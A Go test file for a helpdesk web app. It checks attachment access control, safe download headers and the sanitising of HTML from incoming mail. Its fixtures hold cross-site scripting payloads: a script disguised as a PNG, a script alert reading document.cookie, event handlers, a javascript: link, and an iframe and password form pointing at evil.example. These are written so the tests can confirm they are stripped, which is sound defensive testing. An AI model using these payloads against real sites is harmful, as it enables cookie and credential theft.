package web

import (
	"context"
	"encoding/base64"
	"mime"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/dargo-support/dargo/inbound/mailparse"

	"github.com/dargo-support/dargo/internal/testdb"
	"github.com/dargo-support/dargo/store"
)

// fileFixture delivers a ticket of ada's (carol on Cc) with four files, a
// staff note on it with one, and bob's ticket with one, and returns each
// file's URL by name.
func fileFixture(t *testing.T, db *store.DB, staffID int64, png []byte) map[string]string {
	t.Helper()
	d := newMail("ada@example.com", "Files", "See attached.")
	d.Cc = []store.Person{{Email: "carol@example.com"}}
	d.Message.SenderAuth = store.SenderVerified
	d.Attachments = []store.NewAttachment{
		{Filename: "report.pdf", ContentType: "application/pdf", Data: []byte("%PDF-1.4\n%%EOF\n")},
		{Filename: "pixel.png", ContentType: "image/png", Data: png},
		{Filename: "fake.png", ContentType: "image/png", Data: []byte("<html><script>alert(1)</script></html>")},
		{Filename: "Rechnung März.pdf", ContentType: "application/pdf", Data: []byte("%PDF-1.4\n")},
	}
	ada := deliver(t, db, d)
	_, err := db.AddStaffReply(context.Background(), store.StaffReply{TicketID: ada.TicketID, AuthorID: staffID, Text: "Internal.", Note: true,
		Attachments: []store.NewAttachment{{Filename: "note.png", ContentType: "image/png", Data: png}}})
	if err != nil {
		t.Fatal(err)
	}
	b := newMail("bob@example.com", "Bob's files", "Mine.")
	b.Attachments = []store.NewAttachment{{Filename: "bob.pdf", ContentType: "application/pdf", Data: []byte("%PDF-1.4\nbob\n")}}
	bob := deliver(t, db, b)
	urls := map[string]string{"unknown": "/attachments/999999", "non-numeric": "/attachments/abc", "negative": "/attachments/-1"}
	for _, id := range []int64{ada.TicketID, bob.TicketID} {
		for _, m := range thread(t, db, id) {
			for _, a := range m.Attachments {
				urls[a.Filename] = "/attachments/" + itoa(a.ID)
			}
		}
	}
	return urls
}

// TestAttachmentDownload: files reach only those who may read their
// ticket (a note's only staff), as downloads unless they are images whose
// bytes agree, never sniffed, in a sandbox.
func TestAttachmentDownload(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *store.DB) {
		srv := deskServer(t, db)
		staff, sam := staffMember(t, srv, db, "sam@support.example")
		browsers := map[string]*http.Client{
			"ada":       customer(t, srv, db, "ada@example.com"),
			"carol":     customer(t, srv, db, "carol@example.com"), // on Cc
			"bob":       customer(t, srv, db, "bob@example.com"),
			"staff":     staff,
			"anonymous": browser(t),
		}
		png := pngBytes(t)
		urls := fileFixture(t, db, sam.ID, png)
		tests := []struct {
			who, file   string
			status      int
			ctype       string
			disposition string // the filename is the file's
		}{
			{"ada", "report.pdf", 200, "application/octet-stream", "attachment"},
			{"ada", "pixel.png", 200, "image/png", "inline"},
			{"ada", "fake.png", 200, "application/octet-stream", "attachment"}, // HTML the mail called a PNG
			{"ada", "Rechnung März.pdf", 200, "application/octet-stream", "attachment"},
			{"carol", "report.pdf", 200, "application/octet-stream", "attachment"},
			{"staff", "report.pdf", 200, "application/octet-stream", "attachment"},
			{"staff", "note.png", 200, "image/png", "inline"},
			{"staff", "bob.pdf", 200, "application/octet-stream", "attachment"},
			{"ada", "note.png", 404, "", ""},
			{"carol", "note.png", 404, "", ""},
			{"ada", "bob.pdf", 404, "", ""},
			{"bob", "report.pdf", 404, "", ""},
			{"ada", "unknown", 404, "", ""},
			{"ada", "non-numeric", 404, "", ""},
			{"ada", "negative", 404, "", ""},
			{"anonymous", "report.pdf", 303, "", ""},
		}
		for _, tc := range tests {
			t.Run(tc.who+" "+tc.file, func(t *testing.T) {
				res, body := get(t, browsers[tc.who], srv, urls[tc.file])
				if res.StatusCode != tc.status {
					t.Fatalf("GET %s: %s, want %d", urls[tc.file], res.Status, tc.status)
				}
				switch tc.status {
				case 303:
					if loc := res.Header.Get("Location"); loc != "/login?next="+url.QueryEscape(urls[tc.file]) {
						t.Errorf("anonymous sent to %q", loc)
					}
					return
				case 404:
					if strings.Contains(body, "%PDF") || strings.Contains(body, "\x89PNG") {
						t.Errorf("a 404 carries the file")
					}
					return
				}
				h := res.Header
				disposition, params, err := mime.ParseMediaType(h.Get("Content-Disposition"))
				if err != nil || disposition != tc.disposition || params["filename"] != tc.file {
					t.Errorf("Content-Disposition %q, want %s with filename %q", h.Get("Content-Disposition"), tc.disposition, tc.file)
				}
				if h.Get("Content-Type") != tc.ctype {
					t.Errorf("Content-Type %q, want %q", h.Get("Content-Type"), tc.ctype)
				}
				if h.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(h.Get("Content-Security-Policy"), "sandbox") ||
					!strings.Contains(h.Get("Content-Security-Policy"), "default-src 'none'") || !strings.Contains(h.Get("Cache-Control"), "no-store") {
					t.Errorf("headers %v", h)
				}
				if tc.file == "pixel.png" && body != string(png) {
					t.Errorf("the PNG's bytes changed on the way")
				}
			})
		}
	})
}

// hostileMail is an HTML mail with everything a mail should not run, an
// inline image by Content-ID and a remote tracking image.
func hostileMail(png []byte) []byte {
	return []byte("From: Ada <ada@example.com>\r\nTo: support@example.com\r\nSubject: Look at this\r\n" +
		"Message-ID: <hostile-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=rel\r\n\r\n" +
		"--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		`<html><body onload="steal()"><p onclick="x()" style="color:red">Hello <b>there</b></p>` +
		`<img src="cid:logo@example.com" onerror="y()" alt="logo"><img src="cid:missing@example.com">` +
		`<img src="https://tracker.example/pixel.gif"><a href="javascript:alert(1)">click</a>` +
		`<script>alert(document.cookie)</script><iframe src="https://evil.example/"></iframe>` +
		`<form action="https://evil.example/"><input name="password"></form></body></html>` + "\r\n" +
		"--rel\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <logo@example.com>\r\n" +
		"Content-Disposition: inline; filename=\"logo.png\"\r\n\r\n" + base64.StdEncoding.EncodeToString(png) + "\r\n--rel--\r\n")
}

// deliverParsed delivers a raw mail as the inbound pipeline does: parsed,
// its HTML sanitized there, its parts stored as files.
func deliverParsed(t *testing.T, db *store.DB, raw []byte) *store.Recorded {
	t.Helper()
	m, err := mailparse.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	d := &store.Incoming{From: store.Person{Email: m.From.Email, Name: m.From.Name}, Subject: m.Subject,
		Message: store.NewMessage{Kind: "inbound", Source: "email", MessageID: m.MessageID, Subject: m.Subject,
			Text: m.Text, VisibleText: m.VisibleText, HTML: m.HTML}}
	for _, a := range m.Attachments {
		d.Attachments = append(d.Attachments, store.NewAttachment{Filename: a.Filename, ContentType: a.ContentType,
			ContentID: a.ContentID, Inline: a.Inline, Data: a.Data})
	}
	return deliver(t, db, d)
}

// TestMessageHTML: a mail's HTML is served without anything that runs, in
// a sandbox, with its inline images embedded and remote ones blocked until
// asked for.
func TestMessageHTML(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *store.DB) {
		srv := deskServer(t, db)
		ada := customer(t, srv, db, "ada@example.com")
		staff, sam := staffMember(t, srv, db, "sam@support.example")
		png := pngBytes(t)
		got := deliverParsed(t, db, hostileMail(png))
		path := "/messages/" + itoa(got.MessageID) + "/html"

		res, body := get(t, ada, srv, path)
		if res.StatusCode != 200 || res.Header.Get("Content-Type") != "text/html; charset=utf-8" {
			t.Fatalf("GET %s: %s %q", path, res.Status, res.Header.Get("Content-Type"))
		}
		lower := strings.ToLower(body)
		for _, bad := range []string{"<script", "onload", "onclick", "onerror", "javascript:", "<iframe", "<form", "cid:", "steal()"} {
			if strings.Contains(lower, bad) {
				t.Errorf("served HTML holds %q:\n%s", bad, body)
			}
		}
		for _, want := range []string{"Hello <b>there</b>", `src="data:image/png;base64,` + base64.StdEncoding.EncodeToString(png) + `"`,
			`<img src="">`, `<base target="_blank">`} {
			if !strings.Contains(body, want) {
				t.Errorf("served HTML lacks %q:\n%s", want, body)
			}
		}
		csp := res.Header.Get("Content-Security-Policy")
		if !strings.HasPrefix(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "img-src data:;") ||
			strings.Contains(csp, "https:") || strings.Contains(csp, "allow-scripts") || strings.Contains(csp, "allow-same-origin") {
			t.Errorf("CSP %q", csp)
		}
		if res.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(res.Header.Get("Cache-Control"), "no-store") {
			t.Errorf("headers %v", res.Header)
		}
		res, _ = get(t, ada, srv, path+"?images=1")
		if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "img-src data: https:") || !strings.HasPrefix(csp, "sandbox") {
			t.Errorf("CSP with images=1: %q", csp)
		}

		// The ticket page frames it, asking for remote images only when told.
		ticketPath := "/tickets/" + itoa(got.TicketNumber)
		_, page := get(t, ada, srv, ticketPath)
		if !strings.Contains(page, `src="`+path+`"`) || strings.Contains(page, "alert(document.cookie)") {
			t.Errorf("ticket page does not frame the mail:\n%s", page)
		}
		_, page = get(t, ada, srv, ticketPath+"?images="+itoa(got.MessageID))
		if !strings.Contains(page, `src="`+path+`?images=1"`) {
			t.Errorf("ticket page with images does not ask for them")
		}

		noteMsg, err := db.AddStaffReply(context.Background(), store.StaffReply{TicketID: got.TicketID, AuthorID: sam.ID, Text: "Internal.", Note: true})
		if err != nil {
			t.Fatal(err)
		}
		bob := deliverParsed(t, db, []byte("From: bob@example.com\r\nTo: support@example.com\r\nSubject: Bob's\r\nMessage-ID: <bob-1@example.com>\r\n"+
			"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Bob's private HTML</p>\r\n"))
		for _, tc := range []struct {
			name   string
			c      *http.Client
			path   string
			status int
		}{
			{"staff reads it", staff, path, 200},
			{"staff reads a note's", staff, "/messages/" + itoa(noteMsg) + "/html", 200},
			{"customer: a note's", ada, "/messages/" + itoa(noteMsg) + "/html", 404},
			{"customer: another customer's", ada, "/messages/" + itoa(bob.MessageID) + "/html", 404},
			{"customer: unknown", ada, "/messages/999999/html", 404},
			{"customer: not a number", ada, "/messages/abc/html", 404},
			{"anonymous", browser(t), path, 303},
		} {
			t.Run(tc.name, func(t *testing.T) {
				res, body := get(t, tc.c, srv, tc.path)
				if res.StatusCode != tc.status {
					t.Errorf("GET %s: %s, want %d", tc.path, res.Status, tc.status)
				}
				if tc.status != 200 && (strings.Contains(body, "Bob's private HTML") || strings.Contains(body, "Internal.")) {
					t.Errorf("refused answer leaks the message:\n%s", body)
				}
			})
		}
	})
}
